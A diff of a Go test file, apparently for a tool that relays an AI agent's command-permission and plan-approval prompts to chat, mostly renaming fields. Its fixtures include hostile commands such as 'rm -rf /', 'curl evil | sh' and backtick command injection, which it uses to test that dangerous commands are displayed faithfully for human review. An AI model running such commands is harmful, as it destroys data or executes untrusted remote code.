@@ -16,18 +16,18 @@ func permission(always string) *state.Question {
 		labels = append(labels, state.Option{Label: state.LabelAlways})
 	}
 	return &state.Question{
-		Kind: state.AskedPermission, Tool: "Bash", About: "Clean up", Shown: "rm -rf build", AlwaysAllows: always, SessionName: "shop",
-		CWD: "/home/me/shop", ThreadKey: "ask-user-01234567", Questions: []state.Prompt{{Question: "Bash", Options: labels}},
+		Kind: state.KindPermission, ToolName: "Bash", About: "Clean up", ShownText: "rm -rf build", AlwaysAllows: always, SessionName: "shop",
+		CWD: "/home/me/shop", ThreadKey: "ask-user-01234567", SubQuestions: []state.SubQuestion{{Question: "Bash", Options: labels}},
 	}
 }
 
 func TestParseDecision(t *testing.T) {
-	plan := &state.Question{Kind: state.AskedPlan, Questions: []state.Prompt{{Options: []state.Option{
+	plan := &state.Question{Kind: state.KindPlan, SubQuestions: []state.SubQuestion{{Options: []state.Option{
 		{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto},
 	}}}}
 	always, only := permission("Bash(rm *)"), permission("")
 	terminal := permission("")
-	terminal.Questions[0].Options = terminal.Questions[0].Options[1:]
+	terminal.SubQuestions[0].Options = terminal.SubQuestions[0].Options[1:]
 	for _, test := range []struct {
 		q                *state.Question
 		reply, want, why string
@@ -52,7 +52,7 @@ func TestParseDecision(t *testing.T) {
 	} {
 		back := map[bool]string{true: state.NoteUnclear}[test.want == ""]
 		if test.reply == "more" {
-			back = state.NoteMore
+			back = state.NoteFullText
 		}
 		a, about := ParseDecision(test.reply, test.q)
 		if got := strings.Join(a.Labels, ","); got != test.want || a.Notes != test.why || about != back {
@@ -68,7 +68,7 @@ func FuzzParseDecision(f *testing.F) {
 	f.Fuzz(func(t *testing.T, reply string) {
 		a, _ := ParseDecision(reply, permission("x"))
 		said := normal(strings.Trim(strings.TrimSpace(state.Clean(state.ForAgent, reply)), ".!"))
-		if !a.Empty() && a.Labels[0] == state.LabelAllow && len(said) > len("allow") {
+		if !a.IsEmpty() && a.Labels[0] == state.LabelAllow && len(said) > len("allow") {
 			t.Errorf("%q allows", reply)
 		}
 	})
@@ -103,7 +103,7 @@ func TestTheEndOfACommandIsShown(t *testing.T) {
 		"mentions": "echo <users/all>\nrm -rf /",
 	} {
 		q := permission("")
-		q.Shown = command
+		q.ShownText = command
 		text := QuestionTexts(q)[0]
 		block := strings.Split(text, fence)
 		if len(block) != 3 || !strings.HasSuffix(block[1], "rm -rf /\n") || strings.Contains(text, "<users/all>") {
@@ -116,7 +116,7 @@ func TestTheEndOfACommandIsShown(t *testing.T) {
 		if strings.Contains(text, `reply "more"`) != hidden {
 			t.Errorf("%s: more is offered: %q", name, text)
 		}
-		all := strings.Join(NoteTexts(q, state.Owed{About: state.NoteMore}), "")
+		all := strings.Join(NoteTexts(q, state.OwedNote{About: state.NoteFullText}), "")
 		if n := strings.Count(command, "fine"); strings.Count(all, "fine") != n {
 			t.Errorf("%s: %d of %d words", name, strings.Count(all, "fine"), n)
 		}
@@ -124,14 +124,14 @@ func TestTheEndOfACommandIsShown(t *testing.T) {
 }
 
 func TestPlanText(t *testing.T) {
-	q := &state.Question{Kind: state.AskedPlan, SessionName: "shop", CWD: "/x", ThreadKey: "ask-user-01234567", Shown: "# Plan\n\n1. **do** it"}
-	q.Questions = []state.Prompt{{Options: []state.Option{{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto}}}}
+	q := &state.Question{Kind: state.KindPlan, SessionName: "shop", CWD: "/x", ThreadKey: "ask-user-01234567", ShownText: "# Plan\n\n1. **do** it"}
+	q.SubQuestions = []state.SubQuestion{{Options: []state.Option{{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto}}}}
 	const how = "\n\nReply yes, \"yes, accept edits\" (edits and common file commands such as rm, mv and cp need no permission then), or \"no, …\" with what to change.\n" +
 		"Thread key: ask-user-01234567"
 	if got := QuestionTexts(q); len(got) != 1 || got[0] != "[Plan] Session: shop\nFolder: /x\n\n*Plan*\n\n1. *do* it"+how {
 		t.Errorf("%q", got)
 	}
-	q.Shown = strings.Repeat("a step of the plan\n\n", 4000)
+	q.ShownText = strings.Repeat("a step of the plan\n\n", 4000)
 	parts := QuestionTexts(q)
 	for i, part := range parts {
 		last := i == len(parts)-1
@@ -152,25 +152,25 @@ func TestDecidedText(t *testing.T) {
 		q.Answers, q.Notes = map[string]string{"Bash": label}, map[string]string{"Bash": words}
 		return q
 	}
-	watch := at(state.AskedPermission, state.LabelAllow, "", "chat")
-	watch.Tool = "Monitor"
-	stars := at(state.AskedPermission, state.LabelAllow, "", "chat")
-	stars.Shown = "git add *.go src/*.go"
+	watch := at(state.KindPermission, state.LabelAllow, "", "chat")
+	watch.ToolName = "Monitor"
+	stars := at(state.KindPermission, state.LabelAllow, "", "chat")
+	stars.ShownText = "git add *.go src/*.go"
 	for _, test := range []struct {
 		q    *state.Question
 		want string
 	}{
-		{at(state.AskedPermission, state.LabelAllow, "", "chat"), "Allowed: Bash: rm -rf build"},
-		{at(state.AskedPermission, state.LabelAlways, "", "chat"), "Allowed: Bash: rm -rf build\nAlways allowed from now on: `Bash(rm *)`"},
-		{at(state.AskedPermission, state.LabelDeny, "use\ngit", "chat"), "Denied: Bash: rm -rf build\nReason: use\n  git"},
-		{at(state.AskedPermission, state.LabelAllow, "", "terminal"), "Allowed: Bash: rm -rf build\n\nAnswered in the terminal."},
-		{at(state.AskedPermission, "", "", "terminal"), "Bash: rm -rf build\n\nAnswered in the terminal."},
-		{at(state.AskedPlan, state.LabelApprove, "", "chat"), "Approved the plan."},
-		{at(state.AskedPlan, state.LabelSendBack, "x", "chat"), "Sent the plan back.\nReason: x"},
+		{at(state.KindPermission, state.LabelAllow, "", "chat"), "Allowed: Bash: rm -rf build"},
+		{at(state.KindPermission, state.LabelAlways, "", "chat"), "Allowed: Bash: rm -rf build\nAlways allowed from now on: `Bash(rm *)`"},
+		{at(state.KindPermission, state.LabelDeny, "use\ngit", "chat"), "Denied: Bash: rm -rf build\nReason: use\n  git"},
+		{at(state.KindPermission, state.LabelAllow, "", "terminal"), "Allowed: Bash: rm -rf build\n\nAnswered in the terminal."},
+		{at(state.KindPermission, "", "", "terminal"), "Bash: rm -rf build\n\nAnswered in the terminal."},
+		{at(state.KindPlan, state.LabelApprove, "", "chat"), "Approved the plan."},
+		{at(state.KindPlan, state.LabelSendBack, "x", "chat"), "Sent the plan back.\nReason: x"},
 		{watch, "Allowed: Monitor: rm -rf build"},
 		{stars, "Allowed: Bash: `git add *.go src/*.go`"},
 	} {
-		if got := noteText(test.q, state.Owed{About: state.NoteClosed}); got != "[Answered] shop\n\n"+test.want {
+		if got := noteText(test.q, state.OwedNote{About: state.NoteClosed}); got != "[Answered] shop\n\n"+test.want {
 			t.Errorf("%q, want %q", got, test.want)
 		}
 	}
@@ -179,11 +179,11 @@ func TestDecidedText(t *testing.T) {
 // Backticks run a command: what is shown has no other character in their place, and is no longer than a message for it.
 func TestBackticksAreShown(t *testing.T) {
 	q := permission("")
-	q.Shown = "echo ```id```; echo ``id``"
+	q.ShownText = "echo ```id```; echo ``id``"
 	if text := QuestionTexts(q)[0]; !strings.Contains(text, "\n```\necho ``‹U+0060›id``‹U+0060›; echo ``id``\n```\n") {
 		t.Errorf("%q", text)
 	}
-	q.Shown = strings.Repeat(strings.Repeat("`<", 299)+"```\n", 30)
+	q.ShownText = strings.Repeat(strings.Repeat("`<", 299)+"```\n", 30)
 	if text := QuestionTexts(q)[0]; len(text) > MaxText || strings.Count(text, fence) != 2 {
 		t.Errorf("%d bytes", len(text))
 	}
@@ -196,7 +196,7 @@ func TestAPlanKeepsItsWords(t *testing.T) {
 		"```sh and then evil\nls\n```", "~~~ evil words\n \n~~~", "[a](http://x \"evil words\")", "![a](http://x 'evil')",
 		"# The plan\n\n1. do *this*\n1. do `evil`\n\n```sh\nls\n```",
 	} {
-		q := &state.Question{Kind: state.AskedPlan, SessionName: "shop", Shown: plan}
+		q := &state.Question{Kind: state.KindPlan, SessionName: "shop", ShownText: plan}
 		text := strings.Join(QuestionTexts(q), "")
 		_, card := CardTexts(q, cardID, size)
 		b, _ := json.Marshal(card)
@@ -204,17 +204,17 @@ func TestAPlanKeepsItsWords(t *testing.T) {
 			t.Errorf("%q is shown as %q, %s", plan, text, b)
 		}
 	}
-	if text := QuestionTexts(&state.Question{Kind: state.AskedPlan, Shown: "1. do *this*\n1. that\n\n```sh\nls\n```"})[0]; !strings.Contains(text, "do _this_") {
+	if text := QuestionTexts(&state.Question{Kind: state.KindPlan, ShownText: "1. do *this*\n1. that\n\n```sh\nls\n```"})[0]; !strings.Contains(text, "do _this_") {
 		t.Errorf("a plan is not read as Markdown: %q", text)
 	}
 }
 
 // What was decided is told with its end.
 func TestADecisionIsToldWithItsEnd(t *testing.T) {
-	q := &state.Question{Kind: state.AskedPermission, Tool: "Bash", Status: state.Resolved, Shown: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
-	q.Questions = []state.Prompt{{Question: "Bash"}}
+	q := &state.Question{Kind: state.KindPermission, ToolName: "Bash", Status: state.Resolved, ShownText: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
+	q.SubQuestions = []state.SubQuestion{{Question: "Bash"}}
 	q.Answers = map[string]string{"Bash": state.LabelAllow}
-	if text := noteText(q, state.Owed{About: state.NoteClosed}); !strings.Contains(text, "evil") || !strings.Contains(text, "⋯") {
+	if text := noteText(q, state.OwedNote{About: state.NoteClosed}); !strings.Contains(text, "evil") || !strings.Contains(text, "⋯") {
 		t.Errorf("%q", text)
 	}
 }
@@ -236,11 +236,11 @@ func TestAYesForAWhileIsRead(t *testing.T) {
 // What a yes for a while allowed is listed, the newest first; foreign text in it acts on nothing.
 func TestWhatWasAllowedIsListed(t *testing.T) {
 	q := permission("")
-	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{At: time.Now(), Until: time.Now().Add(time.Hour)}
+	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{GrantedAt: time.Now(), EndsAt: time.Now().Add(time.Hour)}
 	var all []*state.Question
 	for n := range 1500 {
 		one := permission("")
-		one.Shown = fmt.Sprintf("make %d <users/all> ```", n)
+		one.ShownText = fmt.Sprintf("make %d <users/all> ```", n)
 		all = append(all, one)
 	}
 	text := GrantText(q, all, true)
@@ -259,7 +259,7 @@ func TestWhatWasAllowedIsListed(t *testing.T) {
 // it is posted only then, and a reply is told where to answer.
 func TestAPermissionThatWasHandedOver(t *testing.T) {
 	q := permission("Bash(rm *)")
-	q.AgentID, q.AgentType, q.AgentTask, q.Hidden = "a1", "Explore", "look *around*", true
+	q.AgentID, q.AgentType, q.AgentTask, q.IsDialogHidden = "a1", "Explore", "look *around*", true
 	q.Status = state.Pending
 	text := QuestionTexts(q)[0]
 	for _, part := range []string{"From the agent Explore: look ", "The terminal shows nothing of it until you decide.", "Reply yes"} {
@@ -287,18 +287,18 @@ func TestAPermissionThatWasHandedOver(t *testing.T) {
 	if len(buttonsOf(card)) > 0 || !strings.Contains(text, there) {
 		t.Errorf("its card is %s", drawn(card))
 	}
-	if note := NoteTexts(q, state.Owed{About: state.NoteHandedOver}); len(note) != 1 || !strings.HasPrefix(note[0], "[In the terminal] shop") {
+	if note := NoteTexts(q, state.OwedNote{About: state.NoteHandedOver}); len(note) != 1 || !strings.HasPrefix(note[0], "[In the terminal] shop") {
 		t.Errorf("the note is %q", note)
 	}
-	if note := NoteTexts(q, state.Owed{About: state.NoteLate}); len(note) != 1 || note[0] != "[Not used] "+there {
+	if note := NoteTexts(q, state.OwedNote{About: state.NoteLate}); len(note) != 1 || note[0] != "[Not used] "+there {
 		t.Errorf("a reply is told %q", note)
 	}
 }
 
 func TestToTerminal(t *testing.T) {
 	hidden := permission("")
-	hidden.Hidden = true
-	named := &state.Question{Hidden: true, Questions: []state.Prompt{{Options: []state.Option{{Label: "Terminal"}}}}}
+	hidden.IsDialogHidden = true
+	named := &state.Question{IsDialogHidden: true, SubQuestions: []state.SubQuestion{{Options: []state.Option{{Label: "Terminal"}}}}}
 	for _, c := range []struct {
 		q    *state.Question
 		text string
@@ -338,7 +338,7 @@ func TestActsAtPrompt(t *testing.T) {
 		if got := ActsAtPrompt(text); got != want {
 			t.Errorf("%q: %v", text, got)
 		}
-		next := &state.Question{Kind: state.AskedNext}
+		next := &state.Question{Kind: state.KindNext}
 		a, about := ParseDecision(text, next)
 		if (about == state.NoteUnclear) != want || (a.Text == "") != want {
 			t.Errorf("%q as an instruction: %q, %q", text, a.Text, about)
